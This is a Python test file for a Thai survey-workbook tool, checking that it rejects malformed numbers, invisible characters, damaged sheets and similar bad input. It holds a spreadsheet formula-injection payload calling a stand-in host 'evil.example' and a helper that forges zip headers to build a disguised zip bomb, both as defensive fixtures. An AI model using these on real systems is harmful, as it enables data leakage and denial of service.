"""Reliability, third round: numbers as people type them (decimal commas), invisible
characters and SARA AM typed two ways, zips whose headers lie about sizes, framework
numbers that overflow, text that looks like a formula, damaged ledgers, ids Excel
reserves, an indicator on two rows, CSVs from Thai Excel, impossible file dates, what a
killed run leaves behind, and a form set cut short by a full disk.
Each test fails on the code before its fix (the G reproducers of the same names)."""

from __future__ import annotations

import errno
import json
import os
import re
import shutil
import struct
import subprocess
import sys
import zipfile
import zlib
from datetime import datetime
from pathlib import Path

import pytest
from hypothesis import given, settings
from hypothesis import strategies as st
from openpyxl import load_workbook

from readiness_xl.cli.output import json_text
from readiness_xl.core.answers import parse_answer
from readiness_xl.errors import ReadinessError
from readiness_xl.thai import parse_number, text_key
from readiness_xl.workbook import locks
from readiness_xl.workbook.package import check_package, sheet_parts
from tests.conftest import CLI, ROOT, run_cli


def _edit(source: Path, target: Path, edit) -> Path:
    """A copy of a workbook changed by `edit(wb)` through openpyxl."""
    wb = load_workbook(source)
    edit(wb)
    wb.save(target)
    return target


def _one_error(result, code: int = 2) -> str:
    lines = result.stderr.strip().splitlines()
    assert result.returncode == code, result.stderr
    assert len(lines) == 1 and lines[0].startswith("readiness-xl: error: "), result.stderr
    assert "internal error" not in lines[0]
    return lines[0]


# ---- G01: decimal commas -----------------------------------------------------------------

@pytest.mark.parametrize("text,expected", [("1,234", 1234.0), ("1,234,567.5", 1234567.5),
                                           ("๑,๐๐๐", 1000.0), ("-2,500", -2500.0),
                                           ("1\u00a0000", 1000.0), ("5.0", 5.0), (".5", 0.5)])
def test_thousands_groups_of_three_still_read(text, expected):
    assert parse_number(text) == expected


@pytest.mark.parametrize("text", ["5,0", "1,2", "2,5", "12,34", "1,2345", "1,23,456", ",5",
                                  "5,", "1_0", "1__000", "1,000_0", "١٢"])
def test_a_decimal_comma_or_underscore_is_refused_never_read_as_more(text):
    with pytest.raises(ValueError, match="not a number"):
        parse_number(text)
    with pytest.raises(ValueError):
        parse_answer(text, "percent", 100)


def test_a_decimal_comma_says_how_to_write_it():
    with pytest.raises(ValueError, match=r"comma only separates thousands.*\(5\.0\)"):
        parse_number("5,0")


def test_a_form_with_a_decimal_comma_is_rejected_naming_the_cell(sample_path, tmp_path):
    master = tmp_path / "m.xlsx"
    shutil.copy(sample_path, master)
    run_cli("forms", master, "-d", tmp_path / "ff", "--prefill")
    form = tmp_path / "ff" / "D01.xlsx"
    _edit(form, form, lambda wb: wb["D01"].__setitem__("G8", "5,0"))   # indicator 1.4, percent
    before = load_workbook(master, read_only=True)["D01"]["G8"].value
    line = _one_error(run_cli("collect", form, "--into", master, check=False), code=1)
    assert "D01.xlsx, sheet 'D01', cell G8" in line and "'5,0'" in line
    assert load_workbook(master, read_only=True)["D01"]["G8"].value == before   # not 50


def test_a_weight_with_a_decimal_comma_is_refused(sample_path, tmp_path):
    book = _edit(sample_path, tmp_path / "w.xlsx", lambda wb: wb["Framework"].__setitem__("D5", "2,5"))
    line = _one_error(run_cli("recalc", book, "--json", check=False))
    assert "sheet 'Framework', cell D5: weight '2,5' is not a number" in line


# ---- G02: a zip whose headers lie about a part's size --------------------------------------

def _size_lie(source: Path, target: Path, sheet: str, extra: int) -> None:
    """`source` with `extra` blanks after the sheet's XML, its headers claiming the
    original size and CRC (as the G02 reproducer makes it, smaller)."""
    with zipfile.ZipFile(source) as zin:
        part = sheet_parts(zin)[sheet]
        items = [(i, zin.read(i.filename)) for i in zin.infolist()]
    with zipfile.ZipFile(target, "w", zipfile.ZIP_DEFLATED) as zout:
        for info, data in items:
            zout.writestr(info.filename, data + b" " * extra if info.filename == part else data)
    original = dict((i.filename, d) for i, d in items)[part]
    data = bytearray(target.read_bytes())
    info = zipfile.ZipFile(target).getinfo(part)
    crc, o = zlib.crc32(original), info.header_offset
    struct.pack_into("<I", data, o + 14, crc)
    struct.pack_into("<I", data, o + 22, len(original))
    central = 0
    while True:
        central = data.find(b"PK\x01\x02", central)
        if data[central + 46:central + 46 + len(part)] == part.encode():
            break
        central += 4
    struct.pack_into("<I", data, central + 16, crc)
    struct.pack_into("<I", data, central + 24, len(original))
    target.write_bytes(bytes(data))


def test_a_part_that_unpacks_past_its_declared_size_is_refused(sample_path, tmp_path):
    bomb = tmp_path / "bomb.xlsx"
    _size_lie(sample_path, bomb, "D01", 30 * 1024 ** 2)
    assert bomb.stat().st_size < 2 * 1024 ** 2
    with zipfile.ZipFile(bomb) as zf:  # the headers pass the declared-size limits
        assert sum(i.file_size for i in zf.infolist()) < 5 * 1024 ** 2
    with pytest.raises(ReadinessError, match="unpacks to more than the .* bytes its header declares"):
        check_package(bomb)
    before = bomb.read_bytes()
    line = _one_error(run_cli("recalc", bomb, check=False))
    assert "bomb.xlsx" in line and "disguised zip bomb" in line
    assert bomb.read_bytes() == before


def test_a_returned_form_with_a_size_lie_is_rejected(sample_path, tmp_path):
    master = tmp_path / "m.xlsx"
    shutil.copy(sample_path, master)
    run_cli("forms", master, "-d", tmp_path / "ff", "--prefill")
    form = tmp_path / "D01.xlsx"
    _size_lie(tmp_path / "ff" / "D01.xlsx", form, "D01", 30 * 1024 ** 2)
    result = run_cli("collect", form, "--into", master, check=False)
    assert result.returncode == 1 and "disguised zip bomb" in result.stderr, result.stderr


# ---- G03: invisible characters and SARA AM -------------------------------------------------

@pytest.mark.parametrize("a,b", [
    ("กระทรวงอุตสาหกรรม", "กระทรวงอุตสาหกรรม\u200b"), ("D01", "\ufeffD01\u2060"),
    ("กระทรวงสำรวจ", "กระทรวงส\u0e4d\u0e32รวจ"),           # SARA AM as NIKHAHIT + SARA AA
    ("น่ำ", "น\u0e4d\u0e48\u0e32"), ("น่ำ", "น\u0e48\u0e4d\u0e32"),  # a tone mark on either side
    ("ก\u200cข\u200d", "กข"), ("e\u0301", "\u00e9"),
])
def test_text_key_compares_what_looks_alike(a, b):
    assert text_key(a) == text_key(b)


def test_text_key_keeps_what_differs():
    assert text_key("D01") != text_key("D02")
    assert text_key("กระทรวงสำรวจ") != text_key("กระทรวงสารวจ")
    assert text_key("D01\u200b") == "D01" and "\u0e4d" not in text_key("ส\u0e4d\u0e32")


def test_an_invisible_character_does_not_split_a_ministry(sample_path, tmp_path, sample_json):
    def edit(wb):
        ws = wb["Agencies"]
        ws["E3"].value += "\u200b"                             # D02's ministry
    book = _edit(sample_path, tmp_path / "b.xlsx", edit)
    result = json.loads(run_cli("recalc", book, "--json").stdout)
    names = [m["name_th"] for m in result["ministries"]]
    assert len(names) == len({text_key(n) for n in names}) == len(sample_json["ministries"])
    industry = next(m for m in result["ministries"] if m["name_th"].startswith("กระทรวงอุตสาหกรรม"))
    assert round(industry["overall"], 1) == 54.4           # the published figure


def test_sara_am_typed_two_ways_is_one_ministry(sample_path, tmp_path):
    def edit(wb):
        ws = wb["Agencies"]
        ws["E3"].value, ws["E4"].value = "กระทรวงสำรวจ", "กระทรวงส\u0e4d\u0e32รวจ"
    book = _edit(sample_path, tmp_path / "am.xlsx", edit)
    result = json.loads(run_cli("recalc", book, "--json").stdout)
    assert [m["name_th"] for m in result["ministries"] if "รวจ" in m["name_th"]] == ["กระทรวงสำรวจ"]
    shown = {a["id"]: a["ministry"] for a in result["agencies"]}
    assert shown["D03"] == "กระทรวงสำรวจ"                  # the group's name as first typed


def test_an_id_with_an_invisible_character_is_one_unit_in_trend(sample_path, tmp_path):
    def edit(wb):
        wb["Agencies"]["A2"].value = "D01\u200b"
        wb["D01"].title = "D01\u200b"
    book = _edit(sample_path, tmp_path / "b_id.xlsx", edit)
    result = json.loads(run_cli("trend", ROOT / "workbooks" / "sample_2559.xlsx", book, "--json").stdout)
    d01 = [u for u in result["units"] if u["id"].startswith("D01")]
    assert [(u["id"], sorted(u["rounds"])) for u in d01] == [("D01", ["2559", "2560"])]


def test_two_ids_that_differ_only_by_an_invisible_character_are_refused(sample_path, tmp_path):
    def edit(wb):
        wb["Agencies"]["A3"].value = "D01\u200b"
        wb["D02"].title = "D01\u200b"
    book = _edit(sample_path, tmp_path / "dup.xlsx", edit)
    line = _one_error(run_cli("recalc", book, check=False))
    assert "sheet 'Agencies', cell A3" in line and "duplicate agency id" in line


# ---- G04: bands out of order -----------------------------------------------------------------

def test_bands_out_of_order_are_refused_naming_the_cell(sample_path, tmp_path):
    def edit(wb):
        ws = wb["Framework"]
        rows = [[ws.cell(r, c).value for c in (1, 2, 3)] for r in range(14, 18)]
        assert [r[0] for r in rows] == [0, 60, 65, 80]
        for r, row in zip(range(14, 18), [rows[0], rows[3], rows[2], rows[1]]):   # 0, 80, 65, 60
            for c, v in zip((1, 2, 3), row):
                ws.cell(r, c).value = v
    book = _edit(sample_path, tmp_path / "bands.xlsx", edit)
    line = _one_error(run_cli("recalc", book, check=False))
    assert "sheet 'Framework', cell A16: level band 65 is listed after 80" in line


# ---- G05: numbers that overflow ------------------------------------------------------------

@pytest.mark.parametrize("cells,where", [
    ({"B43": 308}, "cell B43: decimals '308'"), ({"B43": 309}, "cell B43"),
    ({"G22": 1e308}, "cell G22: points 1e+308"), ({"B42": "power:1e308"}, "cell B42"),
    ({f"D{r}": 1e308 for r in range(5, 11)}, "cell D5: weight 1e+308"),
])
def test_framework_numbers_that_overflow_are_refused(sample_path, tmp_path, cells, where):
    def edit(wb):
        ws = wb["Framework"]
        assert (ws["A43"].value, ws["A42"].value, ws["A22"].value) == ("decimals", "aggregation", "1.3")
        for ref, value in cells.items():
            ws[ref].value = value
    book = _edit(sample_path, tmp_path / "big.xlsx", edit)
    result = run_cli("recalc", book, "--json", check=False)
    assert "Infinity" not in result.stdout
    assert where in _one_error(result)


def test_json_never_holds_infinity_or_nan():
    text = json_text({"a": float("inf"), "b": [float("nan"), -float("inf"), 1.5]}, indent=False)
    assert json.loads(text) == {"a": None, "b": [None, None, 1.5]}
    assert "Infinity" not in text and "NaN" not in text


# ---- G06: text that looks like a formula -----------------------------------------------------

def test_formula_looking_settings_stay_text_in_every_workbook_we_write(sample_path, tmp_path):
    evil = ['=HYPERLINK("http://evil.example/?"&"', '","Click for details")']

    def edit(wb):
        ws = wb["Framework"]
        assert (ws["A44"].value, ws["A45"].value) == ("all_units_th", "all_units_en")
        for ref, text in zip(("B44", "B45"), evil):
            ws[ref].value = text
            ws[ref].data_type = "s"
    book = _edit(sample_path, tmp_path / "book.xlsx", edit)
    run_cli("new-template", tmp_path / "nt.xlsx", "--framework", book)
    run_cli("trend", ROOT / "workbooks" / "sample_2559.xlsx", book, "-o", tmp_path / "t.xlsx")
    for name in ("nt.xlsx", "t.xlsx"):
        with zipfile.ZipFile(tmp_path / name) as zf:
            formulas = [m for n in zf.namelist() if n.startswith("xl/worksheets/")
                        for m in re.findall(rb"<f>([^<]*)</f>", zf.read(n)) if b"evil" in m]
        assert formulas == [], name
    ws = load_workbook(tmp_path / "nt.xlsx")["Dashboard"]
    assert ws["B5"].value == f"{evil[0]} / {evil[1]}" and ws["B5"].data_type == "s"


# ---- G07: a damaged Validation sheet --------------------------------------------------------

def test_a_damaged_validation_sheet_is_named_not_a_crash(sample_path, tmp_path):
    good = tmp_path / "good.xlsx"
    shutil.copy(sample_path, good)
    run_cli("forms", good, "-d", tmp_path / "ff", "--prefill")
    run_cli("collect", tmp_path / "ff" / "D01.xlsx", "--into", good)
    master = tmp_path / "master.xlsx"
    with zipfile.ZipFile(good) as zin, zipfile.ZipFile(master, "w", zipfile.ZIP_DEFLATED) as zout:
        part = sheet_parts(zin)["Validation"]
        for info in zin.infolist():
            data = zin.read(info.filename)
            if info.filename == part:   # B2 as shared string #7: the package has no such string
                data, n = re.subn(rb'<c r="B2"[^>]*?(/>|>.*?</c>)', b'<c r="B2" t="s"><v>7</v></c>',
                                  data, count=1, flags=re.S)
                assert n == 1
            zout.writestr(info, data)
    before = master.read_bytes()
    line = _one_error(run_cli("collect", tmp_path / "ff" / "D02.xlsx", "--into", master, check=False))
    assert "master.xlsx, sheet 'Validation': the sheet is damaged" in line
    assert master.read_bytes() == before


# ---- G08 and G14: agency lists ----------------------------------------------------------------

AGENCY_HEADER = "id,name_th,name_en,kind,ministry_th,ministry_en\n"


def test_an_id_starting_like_an_excel_owner_file_is_refused(tmp_path):
    csv = tmp_path / "a.csv"
    csv.write_text(AGENCY_HEADER + "~$X1,กรมหนึ่ง,First,department,กระทรวงทดสอบ,Test\n"
                   "X2,กรมสอง,Second,department,กระทรวงทดสอบ,Test\n", encoding="utf-8")
    line = _one_error(run_cli("new-template", tmp_path / "m.xlsx", "--agencies", csv, check=False))
    assert "a.csv, line 2, column id" in line and "'~$X1'" in line and "owner files" in line
    assert not (tmp_path / "m.xlsx").exists()


def test_an_id_starting_like_an_owner_file_is_refused_in_the_agencies_sheet(sample_path, tmp_path):
    def edit(wb):
        wb["Agencies"]["A2"].value = "~$D01"
        wb["D01"].title = "~$D01"
    line = _one_error(run_cli("recalc", _edit(sample_path, tmp_path / "t.xlsx", edit), check=False))
    assert "sheet 'Agencies', cell A2" in line and "'~$D01'" in line


def test_a_header_only_agency_list_is_refused_at_new_template(tmp_path):
    csv = tmp_path / "none.csv"
    csv.write_text(AGENCY_HEADER, encoding="utf-8")
    line = _one_error(run_cli("new-template", tmp_path / "m.xlsx", "--agencies", csv, check=False))
    assert "none.csv, line 2" in line and "no agencies listed" in line
    assert not (tmp_path / "m.xlsx").exists()


# ---- G09: one indicator on two rows ------------------------------------------------------------

def test_an_indicator_on_two_rows_is_refused_with_both_rows(sample_path, tmp_path):
    book = _edit(sample_path, tmp_path / "dup.xlsx", lambda wb: wb["D01"].__setitem__("A6", "1.1"))
    line = _one_error(run_cli("recalc", book, check=False))
    assert "sheet 'D01', cell A6: indicator 1.1 appears twice, rows 5 and 6" in line


def test_a_form_with_an_indicator_on_two_rows_is_rejected(sample_path, tmp_path):
    master = tmp_path / "m.xlsx"
    shutil.copy(sample_path, master)
    run_cli("forms", master, "-d", tmp_path / "ff", "--prefill")
    form = tmp_path / "ff" / "D01.xlsx"

    def edit(wb):
        ws = wb["D01"]
        assert (ws["A5"].value, ws["A6"].value, ws["G5"].value) == ("1.1", "1.2", "ใช่")
        ws["A6"].value, ws["G6"].value = "1.1", "ไม่ใช่"
    _edit(form, form, edit)
    before = master.read_bytes()
    result = run_cli("collect", form, "--into", master, check=False)
    assert result.returncode == 1 and "appears twice, rows 5 and 6" in result.stderr
    ws = load_workbook(master, read_only=True)["D01"]
    assert (ws["G5"].value, ws["G6"].value) == ("ใช่", "ใช่")      # nothing of the form merged
    assert master.read_bytes() != before                           # (the ledger row was added)


# ---- G10: CSVs as Thai Excel saves them -------------------------------------------------------

@pytest.mark.parametrize("encoding,sep", [("cp874", ","), ("utf-16", ","), ("utf-16", "\t"),
                                          ("utf-8-sig", ",")])
def test_load_answers_reads_thai_excel_csv_encodings(sample_path, tmp_path, encoding, sep):
    book = tmp_path / "m.xlsx"
    shutil.copy(sample_path, book)
    assert load_workbook(book, read_only=True)["D01"]["G5"].value == "ใช่"
    csv = tmp_path / "answers.csv"
    csv.write_bytes(f"agency{sep}indicator{sep}answer\r\nD01{sep}1.1{sep}ไม่ใช่\r\n".encode(encoding))
    run_cli("load-answers", csv, "--into", book)
    assert load_workbook(book, read_only=True)["D01"]["G5"].value == "ไม่ใช่"


def test_a_csv_in_no_known_encoding_is_refused_by_every_reader(sample_path, tmp_path):
    csv = tmp_path / "bad.csv"
    csv.write_bytes(b"agency,indicator,answer\nD01,1.1,\x81\xdb\xfc\n")   # neither UTF-8 nor Windows-874
    book = tmp_path / "m.xlsx"
    shutil.copy(sample_path, book)
    before = book.read_bytes()
    line = _one_error(run_cli("load-answers", csv, "--into", book, check=False))
    assert "bad.csv" in line and "CSV UTF-8" in line and book.read_bytes() == before
    line = _one_error(run_cli("new-template", tmp_path / "t.xlsx", "--agencies", csv, check=False))
    assert "bad.csv" in line and "CSV UTF-8" in line


def test_new_template_reads_a_windows_874_agency_list(tmp_path):
    csv = tmp_path / "ag.csv"
    csv.write_bytes((AGENCY_HEADER + "X1,กรมทดสอบ,T,department,กระทรวงทดสอบ,M\n").encode("cp874"))
    run_cli("new-template", tmp_path / "t.xlsx", "--agencies", csv)
    assert load_workbook(tmp_path / "t.xlsx", read_only=True)["Agencies"]["B2"].value == "กรมทดสอบ"


# ---- G11: a file date past 9999 --------------------------------------------------------------

def test_a_form_dated_past_9999_is_rejected_and_the_others_merge(sample_path, tmp_path, monkeypatch):
    from readiness_xl.survey import collect
    master = tmp_path / "m.xlsx"
    shutil.copy(sample_path, master)
    run_cli("forms", master, "-d", tmp_path / "ff", "--prefill")
    _edit(tmp_path / "ff" / "D02.xlsx", tmp_path / "ff" / "D02.xlsx",
          lambda wb: wb["D02"].__setitem__("G7", 0))
    far = 2 ** 33                                  # stands for 2**40: ext4 clamps dates at 2446

    class Dates(datetime):
        @classmethod
        def fromtimestamp(cls, t, tz=None):
            if t >= far:
                raise ValueError("year 36812 is out of range")
            return datetime.fromtimestamp(t, tz)
    os.utime(tmp_path / "ff" / "D01.xlsx", (far, far))
    monkeypatch.setattr(collect, "datetime", Dates)
    report = collect.collect_forms([tmp_path / "ff" / "D01.xlsx", tmp_path / "ff" / "D02.xlsx"], master)
    assert report.merged == ["D02"] and report.rejected == 1
    assert "modification date is out of range" in report.first_rejection.problem
    assert load_workbook(master, read_only=True)["D02"]["G7"].value == 0


# ---- G12: what a killed run leaves ------------------------------------------------------------

def _dead_pid() -> int:
    run = subprocess.run([sys.executable, "-c", "import os; print(os.getpid())"],
                         capture_output=True, text=True, check=True)
    return int(run.stdout)


def test_a_killed_runs_temporary_copy_is_removed_by_the_next_read(sample_path, tmp_path):
    book = tmp_path / "m.xlsx"
    shutil.copy(sample_path, book)
    dead = tmp_path / f".m.xlsx{locks.TEMP_MARK}{_dead_pid()}-k1ll3d.tmp"
    live = tmp_path / f".m.xlsx{locks.TEMP_MARK}{os.getpid()}-w0rk1ng.tmp"
    for path in (dead, live):
        path.write_bytes(b"PK half a workbook")
    dead_lock = tmp_path / f".m.xlsx{locks.LOCK_SUFFIX}"
    dead_lock.write_text(str(_dead_pid()))
    live_lock = tmp_path / f".other.xlsx{locks.LOCK_SUFFIX}"
    live_lock.write_text(str(os.getpid()))
    run_cli("recalc", book, "-o", tmp_path / "out.xlsx")       # reads m.xlsx, takes no lock on it
    assert not dead.exists() and live.exists()
    assert not dead_lock.exists() and live_lock.exists()


def test_a_killed_runs_scratch_folder_is_removed_by_the_next_run(tmp_path, monkeypatch):
    import tempfile
    monkeypatch.setattr(tempfile, "tempdir", str(tmp_path))
    dead = tmp_path / f"readiness-xl-chromium-{_dead_pid()}-abc"
    live = tmp_path / f"readiness-xl-report-{os.getppid()}-def"
    other = tmp_path / f"someone-else-{_dead_pid()}-x"
    for folder in (dead, live, other):
        folder.mkdir()
        (folder / "Default").mkdir()
    with locks.scratch_folder("trend") as folder:
        assert folder.parent == tmp_path and str(os.getpid()) in folder.name
    assert sorted(p.name for p in tmp_path.iterdir()) == sorted([live.name, other.name])


def test_report_pdf_killed_at_its_replace_leaves_nothing_after_the_next_run(sample_path, tmp_path):
    if shutil.which("chromium") is None and shutil.which("chromium-browser") is None:
        pytest.skip("Chromium is not installed")
    import tempfile
    scratch = Path(tempfile.mkdtemp(prefix="rxl"))  # short: Chromium's sockets live in TMPDIR
    try:
        _report_killed_then_trend(sample_path, tmp_path, scratch)
    finally:
        shutil.rmtree(scratch, ignore_errors=True)


def _report_killed_then_trend(sample_path: Path, tmp_path: Path, scratch: Path) -> None:
    env = {**os.environ, "TMPDIR": str(scratch), locks.STOP_AT: "before-replace"}
    run = subprocess.Popen([*CLI, "report", str(sample_path), "-o", str(tmp_path / "r.pdf")],
                           cwd=ROOT, env=env, stdout=subprocess.DEVNULL, stderr=subprocess.PIPE)
    _kill_when_stopped(run)
    assert [p.name for p in scratch.iterdir() if p.name.startswith("readiness-xl-report-")]
    assert not (tmp_path / "r.pdf").exists()
    env.pop(locks.STOP_AT)
    subprocess.run([*CLI, "trend", str(ROOT / "workbooks" / "sample_2559.xlsx"), str(sample_path),
                    "-o", str(tmp_path / "t.xlsx")], cwd=ROOT, env=env, check=True, capture_output=True)
    assert list(scratch.iterdir()) == []


def _kill_when_stopped(run: subprocess.Popen) -> None:
    """Wait until the run stops itself at its stop point (locks.stop_point), then SIGKILL it."""
    _, status = os.waitpid(run.pid, os.WUNTRACED)
    assert os.WIFSTOPPED(status), (f"the run ended before its stop point (status {status}): "
                                   f"{run.stderr.read() if run.stderr else ''}")
    run.kill()
    run.wait()


# ---- G13: a form set cut short -----------------------------------------------------------------

def test_forms_cut_short_by_a_full_disk_leave_the_folder_as_it_was(sample_path, tmp_path, monkeypatch):
    from readiness_xl.survey import forms
    from readiness_xl.workbook.read import read_book
    book = read_book(sample_path)
    folder = tmp_path / "ff"
    folder.mkdir()
    (folder / "D01.xlsx").write_bytes(b"last round's form")
    real_save, calls = forms.save_workbook, []

    def save(wb, target):
        calls.append(target)
        if len(calls) == 8:
            raise ReadinessError(f"{target}: could not write the file (No space left on device); "
                                 "the original is unchanged")
        real_save(wb, target)
    monkeypatch.setattr(forms, "save_workbook", save)
    with pytest.raises(ReadinessError, match="no questionnaire was written"):
        forms.write_forms(book, folder)
    assert sorted(p.name for p in folder.iterdir()) == ["D01.xlsx"]
    assert (folder / "D01.xlsx").read_bytes() == b"last round's form"


def test_forms_on_a_disk_that_fills_leave_no_partial_set(sample_path, tmp_path, monkeypatch):
    from readiness_xl.survey import forms
    from readiness_xl.workbook.read import read_book
    book = read_book(sample_path)
    real_save, calls = forms.save_workbook, []

    def save(wb, target):
        calls.append(target)
        if len(calls) == 8:
            raise OSError(errno.ENOSPC, "No space left on device")
        real_save(wb, target)
    monkeypatch.setattr(forms, "save_workbook", save)
    with pytest.raises(ReadinessError, match="No space left on device"):
        forms.write_forms(book, tmp_path / "ff")
    assert list((tmp_path / "ff").iterdir()) == []


# ---- properties ---------------------------------------------------------------------------------


@settings(max_examples=60, deadline=None)
@given(st.integers(-10 ** 12, 10 ** 12), st.sampled_from(["", ".5", ".25"]))
def test_any_number_grouped_by_thousands_reads_as_itself(n, fraction):
    grouped = f"{n:,}{fraction}"
    assert parse_number(grouped) == float(f"{n}{fraction}")


@settings(max_examples=60, deadline=None)
@given(st.integers(0, 10 ** 6), st.integers(0, 10 ** 6).map(str).filter(lambda d: len(d) != 3))
def test_a_comma_before_other_than_three_digits_is_never_read(whole, decimals):
    with pytest.raises(ValueError):
        parse_number(f"{whole},{decimals}")


_THAI = st.text(st.sampled_from("กขคงจสนมรวทอำ่้๊๋ัิีึืุู\u0e4d\u0e32 D019"), max_size=12)


@settings(max_examples=80, deadline=None)
@given(_THAI, st.lists(st.tuples(st.integers(0, 12), st.sampled_from("\u200b\u200c\u200d\ufeff\u2060")),
                       max_size=3))
def test_text_key_ignores_invisible_characters_and_is_idempotent(text, inserts):
    noisy = text
    for at, char in inserts:
        noisy = noisy[:at] + char + noisy[at:]
    assert text_key(noisy) == text_key(text)
    assert text_key(text_key(text)) == text_key(text)


def test_ids_inside_formulas_we_build_end_no_string_literal(sample_path, tmp_path):
    from readiness_xl.workbook.style import excel_text
    from readiness_xl.survey.forms import form_agency
    assert excel_text('d"1') == '"d""1"' and excel_text("ก") == '"ก"'
    csv = tmp_path / "a.csv"
    csv.write_text(AGENCY_HEADER + 'X"1,กรมหนึ่ง,First,department,กระทรวงทดสอบ,Test\n', encoding="utf-8")
    run_cli("new-template", tmp_path / "m.xlsx", "--agencies", csv)
    run_cli("forms", tmp_path / "m.xlsx", "-d", tmp_path / "ff")
    with zipfile.ZipFile(tmp_path / "ff" / 'X"1.xlsx') as zf:   # a valid formula constant for Excel
        assert '>"X""1"</definedName>' in zf.read("xl/workbook.xml").decode().replace("&quot;", '"')
    assert form_agency(tmp_path / "ff" / 'X"1.xlsx') == 'X"1'      # the stamp reads back whole


def test_an_indicator_id_with_an_invisible_character_is_that_indicator(sample_path, tmp_path, sample_json):
    book = _edit(sample_path, tmp_path / "zw.xlsx", lambda wb: wb["D01"].__setitem__("A5", "1.1\u200b"))
    result = json.loads(run_cli("recalc", book, "--json").stdout)
    assert result["national"]["overall"] == pytest.approx(sample_json["national"]["overall"], abs=1e-9)
